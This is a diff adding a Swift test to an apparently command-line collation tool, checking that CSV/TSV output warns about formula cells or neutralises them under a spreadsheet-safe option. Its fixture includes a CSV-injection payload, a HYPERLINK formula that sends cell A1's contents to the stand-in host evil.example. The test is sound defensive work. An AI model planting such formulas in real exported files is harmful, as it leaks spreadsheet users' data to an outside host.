@@ -63,4 +63,24 @@ import TestSupport
         #expect(result.status == 2)
         #expect(result.stderr.contains(options.contains("--bom") ? "--bom is for --format csv and tsv" : "--output-delimiter"), "\(result.stderr)")
     }
+
+    /// Formula cells went through with no warning and no way to neutralise
+    /// them, in output the docs recommend for Excel.
+    @Test func formulaCellsAreCountedOrNeutralised() throws {
+        let lines = try CollateRunner.file("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")\n@SUM(1+1)\nAnna\n-5\n", name: "inj.txt")
+        let plain = try CollateRunner.run(["-l", "en", "-f", "csv", "--bom", "--output-delimiter", ";", lines])
+        #expect(plain.status == 0)
+        #expect(plain.stdout.contains("26;#;@SUM(1+1)\n"))
+        #expect(plain.stderr.contains("warning: 2 cells begin with =, +, -, @"), "\(plain.stderr)")
+        let safe = try CollateRunner.run(["-l", "en", "-f", "csv", "--spreadsheet-safe", lines])
+        #expect(safe.stdout == "section,title,record\n0,A,Anna\n26,#,'-5\n26,#,'@SUM(1+1)\n26,#,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"\n")
+        #expect(safe.stderr.isEmpty)
+        // CSV rows as read: only a row with a formula cell is re-encoded.
+        let csv = try CollateRunner.file("name,n\n=1+1,-3\nAnna,x\n", name: "inj.csv")
+        let rows = try CollateRunner.run(["-l", "en", "-f", "csv", "--spreadsheet-safe", csv])
+        #expect(rows.stdout == "section,title,name,n\n0,A,Anna,x\n26,#,'=1+1,'-3\n")
+        let counted = try CollateRunner.run(["-l", "en", "-f", "tsv", csv])
+        #expect(counted.stderr.contains("warning: 1 cell begins with"), "\(counted.stderr)")
+        #expect(try CollateRunner.run(["-l", "en", "--spreadsheet-safe", csv]).status == 2)
+    }
 }
